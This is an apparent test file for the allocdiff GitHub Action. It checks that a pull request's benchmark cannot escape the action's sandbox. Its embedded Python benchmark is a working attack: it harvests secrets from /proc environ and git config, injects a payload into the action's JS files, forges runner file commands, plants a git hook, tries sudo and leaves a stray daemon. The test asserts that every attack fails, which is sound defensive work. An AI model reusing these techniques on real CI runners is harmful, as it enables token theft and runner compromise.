// A pull request whose benchmark attacks the action that runs it: the bundled action, run as a
// runner runs it (a user that is not root, the runner's file-command folder, a token in the
// inputs and the environment, the job token in .git/config as actions/checkout leaves it by
// default), against the local GitHub API double. Each attack must fail, and the measurement
// and the comment must still be made.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRepoFromTrees } from '../../scripts/example-repo.mjs';
import {
  examplePayload,
  PROJECT_ROOT,
  runAction,
  type ActionRun,
} from '../support/action-runner.js';
import { startGitHubApi, type GitHubApiDouble } from '../support/github-api.js';

const TOKEN = 'ghs_isolationSecretToken0123456789';
const HEADER_SECRET = 'eC1hY2Nlc3MtdG9rZW46Z2hzX2pvYlRva2Vu';
const SECRETS = {
  DEPLOY_HOOK: 'https://hooks.invalid/deploy/s3cr3t-deploy-hook',
  DATABASE_URL: 'postgres://app:db-passw0rd@db.invalid/app',
  AWS_ACCESS_KEY_ID: 'AKIAISOLATIONTEST0000',
  ACTIONS_RUNTIME_TOKEN: 'runtime-token-isolation-0123',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'id-token-request-isolation-0123',
};
const RUNNER_USER = 'allocdiff-runner';
const PR_NUMBER = 18;

/** The uid, gid and home of the user the action runs as: a user that is not root. */
function runnerUser(home: string): { uid: number; gid: number; home: string } | undefined {
  if (process.getuid?.() !== 0) return undefined; // Already not root: run as this user.
  try {
    execFileSync('id', ['-u', RUNNER_USER], { stdio: 'ignore' });
  } catch {
    execFileSync('useradd', ['--system', '--user-group', '--no-create-home', RUNNER_USER]);
  }
  const id = (flag: string) =>
    Number(execFileSync('id', [flag, RUNNER_USER], { encoding: 'utf8' }).trim());
  return { uid: id('-u'), gid: id('-g'), home };
}

/** The base's benchmark: a plain one. */
const PLAIN_BENCHMARK = 'data = bytearray(10_000)\n';

/**
 * The head's benchmark: it tries every way out it knows, notes what it got in LOOT_DIR (which
 * the workflow passes with the `env` input), then allocates as a benchmark does.
 */
const HOSTILE_BENCHMARK = String.raw`
import glob, os, stat, subprocess, sys

LOOT = os.environ["LOOT_DIR"]
MARKER = "allocdiff-daemon-" + os.path.basename(os.path.dirname(LOOT))


def note(what, text):
    with open(os.path.join(LOOT, what), "a") as f:
        f.write(text + "\n")


# The environment of every process it can see (node's holds the token and every input).
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as f:
            note("environ", path + "\n" + f.read().replace(b"\0", b"\n").decode("utf8", "replace"))
    except OSError as error:
        note("environ-refused", path + ": " + str(error))
note("own-env", "\n".join("%s=%s" % item for item in sorted(os.environ.items())))
import tempfile
note("tempdir", tempfile.gettempdir())

# allocdiff's own files: the chunks node imports after measuring, beside the harness.
payload = (
    '\n;process.getBuiltinModule("fs").writeFileSync(%r, String(process.env["INPUT_GITHUB-TOKEN"]));\n'
    % os.path.join(LOOT, "chunk-ran")
)
for entry in os.environ.get("PYTHONPATH", "").split(os.pathsep):
    dist = os.path.dirname(entry.rstrip("/"))
    for js in glob.glob(os.path.join(dist, "chunks", "*.js")) + glob.glob(os.path.join(dist, "*.js")):
        try:
            with open(js, "a") as f:
                f.write(payload)
            note("rewrote", js)
        except OSError as error:
            note("rewrite-refused", js + ": " + str(error))

# The runner's file commands, found from the checkout's place in RUNNER_TEMP.
runner_temp = os.path.dirname(os.path.dirname(os.getcwd()))
forged = "verdict<<FORGED\npass\nFORGED\nBASH_ENV<<FORGED\n/tmp/evil\nFORGED\n"
for path in glob.glob(os.path.join(runner_temp, "_runner_file_commands", "*")) + [
    os.environ.get(name, "") for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH")
]:
    if not path:
        continue
    try:
        with open(path, "a") as f:
            f.write(forged)
        note("forged", path)
    except OSError as error:
        note("forge-refused", path + ": " + str(error))

# The repository's .git: its config (the job token, as actions/checkout leaves it) and hooks.
with open(os.path.join(os.getcwd(), ".git")) as f:
    gitdir = f.read().split("gitdir:", 1)[1].strip()
common = os.path.dirname(os.path.dirname(gitdir))
try:
    with open(os.path.join(common, "config")) as f:
        note("git-config", f.read())
except OSError as error:
    note("git-config-refused", str(error))
note("git-config-list", subprocess.run(["git", "config", "--list"], capture_output=True, text=True).stdout)
hook = os.path.join(common, "hooks", "post-checkout")
try:
    with open(hook, "w") as f:
        f.write("#!/bin/sh\nenv > %s\n" % os.path.join(LOOT, "hook-ran"))
    os.chmod(hook, 0o755)
    note("planted", hook)
except OSError as error:
    note("plant-refused", str(error))

# A root shell through the runner's passwordless sudo.
try:
    note("sudo", subprocess.run(["sudo", "-n", "id"], capture_output=True, text=True).stdout)
except OSError as error:
    note("sudo-refused", str(error))

# A daemon that outlives the run, in a session of its own.
subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(120)", MARKER],
    start_new_session=True,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)

data = bytearray(100_000)
`;

/** Whether a process whose command line holds `marker` runs (pids differ inside namespaces). */
function running(marker: string): boolean {
  return readdirSync('/proc').some((entry) => {
    try {
      return (
        /^\d+$/.test(entry) &&
        readFileSync(`/proc/${entry}/cmdline`, 'utf8').includes(marker) &&
        !/^\d+ \(.*\) [ZX]/.test(readFileSync(`/proc/${entry}/stat`, 'utf8'))
      );
    } catch {
      return false;
    }
  });
}

/** A digest of every file under `dir`. */
function digest(dir: string): string {
  const hash = createHash('sha256');
  for (const entry of readdirSync(dir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const path = join(entry.parentPath, entry.name);
    hash.update(path).update(readFileSync(path));
  }
  return hash.digest('hex');
}

describe('a pull request whose benchmark attacks the action', () => {
  let api: GitHubApiDouble;
  let work: string;
  let loot: string;
  let actionDir: string;
  let repo: ReturnType<typeof createRepoFromTrees>;
  let user: ReturnType<typeof runnerUser>;
  let owner: string;
  let name: string;
  let result: ActionRun;
  let distBefore: string;

  const lootText = (): string =>
    readdirSync(loot)
      .map((file) => `== ${file}\n${readFileSync(join(loot, file), 'utf8')}`)
      .join('\n');

  const run = () => {
    const payload = examplePayload('pull_request', 'synchronize') as {
      number: number;
      pull_request: { number: number; base: { sha: string }; head: { sha: string } };
    };
    payload.number = PR_NUMBER;
    payload.pull_request.number = PR_NUMBER;
    payload.pull_request.base.sha = repo.shas[0];
    payload.pull_request.head.sha = repo.shas[1];
    return runAction({
      inputs: { script: 'bench/memory.py', 'github-token': TOKEN, env: 'LOOT_DIR' },
      eventName: 'pull_request',
      payload,
      workspace: repo.dir,
      repository: `${owner}/${name}`,
      apiUrl: api.url,
      actionDir,
      ...(user ? { user } : {}),
      extraEnv: {
        GITHUB_TOKEN: TOKEN,
        LOOT_DIR: loot,
        ...SECRETS,
        // To see the attacks succeed without a sandbox: ALLOCDIFF_ISOLATION=none.
        ...(process.env.ALLOCDIFF_ISOLATION
          ? { ALLOCDIFF_ISOLATION: process.env.ALLOCDIFF_ISOLATION }
          : {}),
      },
    });
  };

  beforeAll(async () => {
    work = mkdtempSync(join(realpathSync(tmpdir()), 'allocdiff-isolation-'));
    loot = join(work, 'loot');
    const home = join(work, 'home');
    mkdirSync(loot);
    mkdirSync(home);
    // The runner user reaches its folders in here; the benchmark writes what it finds to loot.
    chmodSync(work, 0o755);
    chmodSync(loot, 0o777);
    user = runnerUser(home);
    // The action as the runner downloads it: its files are the runner user's.
    actionDir = join(work, 'action');
    for (const entry of ['dist', 'action.yml', 'package.json'])
      cpSync(join(PROJECT_ROOT, entry), join(actionDir, entry), { recursive: true });
    distBefore = digest(join(actionDir, 'dist'));

    const trees = join(work, 'trees');
    for (const [side, benchmark] of [
      ['base', PLAIN_BENCHMARK],
      ['head', HOSTILE_BENCHMARK],
    ]) {
      mkdirSync(join(trees, side, 'bench'), { recursive: true });
      writeFileSync(join(trees, side, 'bench', 'memory.py'), benchmark);
    }
    repo = createRepoFromTrees([join(trees, 'base'), join(trees, 'head')]);
    // actions/checkout's default (persist-credentials: true) leaves the job token here.
    repo.git(
      'config',
      'http.https://github.com/.extraheader',
      `AUTHORIZATION: basic ${HEADER_SECRET}`,
    );
    if (user) {
      for (const dir of [home, actionDir, repo.dir])
        execFileSync('chown', ['-R', `${user.uid}:${user.gid}`, dir]);
    }
    [owner, name] = (
      examplePayload('pull_request', 'synchronize') as { repository: { full_name: string } }
    ).repository.full_name.split('/');
    api = await startGitHubApi({ token: TOKEN, owner, repo: name });
    result = await run();
  }, 300_000);

  afterAll(async () => {
    await api?.close();
    if (repo) rmSync(repo.dir, { recursive: true, force: true });
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('still measures the head and comments', () => {
    expect(result.exitCode, result.stdout).toBe(0);
    expect(result.stdout).toContain('pull-request code runs in user, PID and mount namespaces');
    expect(api.commentsOn(owner, name, PR_NUMBER)).toHaveLength(1);
    expect(result.outputs.verdict).toBe('pass');
    expect(lootText()).toContain('== own-env');
  });

  it("cannot read the token, the inputs or a step's secrets from any process", () => {
    const text = lootText();
    expect(text).not.toContain(TOKEN);
    for (const [variable, value] of Object.entries(SECRETS)) {
      expect(text, variable).not.toContain(value);
    }
    expect(text).not.toMatch(/^INPUT_/m);
    const seen = [...text.matchAll(/^\/proc\/(\d+)\/environ$/gm)].map((match) => match[1]);
    // It sees only the processes of its own sandbox (small pids of their own), whichever run.
    expect(seen).toContain('1');
    for (const pid of seen) expect(Number(pid)).toBeLessThan(10);
  });

  it("cannot rewrite allocdiff's files", () => {
    expect(existsSync(join(loot, 'chunk-ran'))).toBe(false);
    expect(existsSync(join(loot, 'rewrote'))).toBe(false);
    expect(readFileSync(join(loot, 'rewrite-refused'), 'utf8')).toMatch(/Read-only file system/);
    expect(digest(join(actionDir, 'dist'))).toBe(distBefore);
  });

  it("cannot write the runner's file commands, and has a temporary folder of its own", () => {
    expect(existsSync(join(loot, 'forged'))).toBe(false);
    for (const [file, text] of Object.entries(result.fileCommands))
      expect(text, file).not.toContain('FORGED');
    const env = readFileSync(join(loot, 'own-env'), 'utf8');
    for (const variable of ['RUNNER_TEMP', 'GITHUB_ENV', 'GITHUB_OUTPUT', 'GITHUB_PATH'])
      expect(env).not.toMatch(new RegExp(`^${variable}=`, 'm'));
    expect(readFileSync(join(loot, 'tempdir'), 'utf8').trim()).toMatch(
      /\/allocdiff-tmp-\w+\/head$/,
    );
  });

  it("cannot read the job token in the repository's git config", () => {
    expect(lootText()).not.toContain(HEADER_SECRET);
    expect(readFileSync(join(loot, 'git-config'), 'utf8')).toContain('[core]');
  });

  it("cannot plant a git hook, and allocdiff's git runs none", async () => {
    expect(existsSync(join(loot, 'planted'))).toBe(false);
    const hook = join(repo.dir, '.git', 'hooks', 'post-checkout');
    expect(existsSync(hook)).toBe(false);
    // A hook that got there some other way does not run either.
    writeFileSync(hook, `#!/bin/sh\ntouch ${join(loot, 'hook-ran')}\n`, { mode: 0o755 });
    if (user) execFileSync('chown', [`${user.uid}:${user.gid}`, hook]);
    const again = await run();
    expect(again.exitCode, again.stdout).toBe(0);
    expect(existsSync(join(loot, 'hook-ran'))).toBe(false);
  }, 300_000);

  it('cannot become root through sudo', () => {
    expect(
      existsSync(join(loot, 'sudo')) ? readFileSync(join(loot, 'sudo'), 'utf8') : '',
    ).not.toContain('uid=0');
  });

  it('leaves no process behind, even one in a session of its own', () => {
    expect(running(`allocdiff-daemon-${work.split('/').pop()}`)).toBe(false);
  });
});
